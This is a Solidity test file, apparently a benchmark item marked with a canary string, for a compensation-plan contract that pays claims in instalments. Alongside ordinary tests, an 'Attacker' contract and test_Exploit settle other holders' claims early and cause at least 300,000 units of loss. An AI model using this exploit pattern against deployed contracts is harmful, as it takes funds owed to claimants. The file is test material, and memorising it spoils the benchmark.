// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import "./CompensationPlan.sol";
import {IAccessControl} from "@openzeppelin/contracts@5.4.0/access/IAccessControl.sol";
import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";

// assay-canary-db383c43-0c4c-4667-85f5-998f07949fba

interface Vm {
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function expectRevert(bytes calldata reason) external;
}

contract Usd is ERC20 {
    constructor() ERC20("Usd", "USD") {
        _mint(msg.sender, 1_000_000e6);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant REGISTRAR = address(0x4E6);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    address private constant SAFE = address(0x5AFE);

    Usd private usd;
    CompensationPlan private plan;
    Attacker private mallory;

    function setUp() public {
        usd = new Usd();
        plan = new CompensationPlan(usd, address(this));
        plan.grantRole(plan.REGISTRAR_ROLE(), REGISTRAR);
        vm.startPrank(REGISTRAR);
        plan.listClaim(ANA, 300_000e6);
        plan.listClaim(BEN, 100_000e6);
        plan.start();
        vm.stopPrank();
        usd.approve(address(plan), type(uint256).max);
        plan.payInstalment(4_000e6);
        mallory = new Attacker(plan, ANA, BEN);
    }

    function test_Regular() public {
        require(plan.shareOf(ANA) == 3_000e6 && plan.shareOf(SAFE) == 0, "first instalment");
        vm.prank(ANA);
        plan.setPayee(SAFE);
        plan.payInstalment(396_000e6);
        require(plan.settle(ANA) == 300_000e6 && usd.balanceOf(SAFE) == 300_000e6, "paid to the safe");
        vm.prank(BEN);
        require(plan.settle(BEN) == 100_000e6 && usd.balanceOf(BEN) == 100_000e6, "paid to the holder");
        CompensationPlan.Claim memory claim = plan.claimOf(ANA);
        require(claim.settled == 300_000e6 && claim.amount == 300_000e6 && claim.payee == SAFE, "on record");
        require(usd.balanceOf(address(plan)) == 0 && plan.received() == 400_000e6, "nothing left");
        plan.grantRole(plan.REGISTRAR_ROLE(), BEN);
        plan.revokeRole(plan.REGISTRAR_ROLE(), BEN);
        plan.renounceRole(plan.DEFAULT_ADMIN_ROLE(), address(this));
        require(!plan.hasRole(plan.DEFAULT_ADMIN_ROLE(), address(this)), "no administrator");
    }

    function test_RefusesTwice() public {
        plan.payInstalment(396_000e6);
        plan.settle(ANA);
        vm.expectRevert("CompensationPlan: nothing due");
        plan.settle(ANA);
        vm.expectRevert("CompensationPlan: nothing due");
        plan.settle(SAFE);
        vm.expectRevert("CompensationPlan: more than was lost");
        plan.payInstalment(1);
    }

    function test_RefusesStrangers() public {
        vm.startPrank(SAFE);
        vm.expectRevert(
            abi.encodeWithSelector(
                IAccessControl.AccessControlUnauthorizedAccount.selector, SAFE, keccak256("REGISTRAR_ROLE")
            )
        );
        plan.start();
        vm.expectRevert("CompensationPlan: no claim");
        plan.setPayee(SAFE);
        vm.stopPrank();
        vm.prank(ANA);
        vm.expectRevert("CompensationPlan: payee");
        plan.setPayee(address(0));
        vm.prank(REGISTRAR);
        vm.expectRevert("CompensationPlan: started");
        plan.listClaim(SAFE, 1);
    }

    function test_RefusesPlansWithoutClaims() public {
        CompensationPlan other = new CompensationPlan(usd, address(this));
        other.grantRole(other.REGISTRAR_ROLE(), REGISTRAR);
        vm.prank(SAFE);
        vm.expectRevert(
            abi.encodeWithSelector(
                IAccessControl.AccessControlUnauthorizedAccount.selector, SAFE, keccak256("REGISTRAR_ROLE")
            )
        );
        other.listClaim(SAFE, 1);
        vm.startPrank(REGISTRAR);
        vm.expectRevert("CompensationPlan: no claims");
        other.start();
        other.listClaim(ANA, 5);
        vm.expectRevert("CompensationPlan: listed");
        other.listClaim(ANA, 5);
        vm.stopPrank();
        usd.approve(address(other), 5);
        vm.expectRevert("CompensationPlan: not started");
        other.payInstalment(0);
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        uint256 before = open();
        exploit();
        require(open() + 300_000e6 <= before, "no claim lost");
    }

    /// What both holders have, and what they are still to be paid.
    function open() public view returns (uint256 sum) {
        CompensationPlan.Claim memory a = plan.claimOf(ANA);
        CompensationPlan.Claim memory b = plan.claimOf(BEN);
        return usd.balanceOf(ANA) + usd.balanceOf(BEN) + (a.amount - a.settled) + (b.amount - b.settled);
    }

    function target() public view returns (address) {
        return address(plan);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

/// Settles the claims of others after the first small instalment.
contract Attacker {
    CompensationPlan private plan;
    address private first;
    address private second;

    constructor(CompensationPlan plan_, address first_, address second_) {
        (plan, first, second) = (plan_, first_, second_);
    }

    function run() external {
        plan.settle(first);
        plan.settle(second);
    }
}
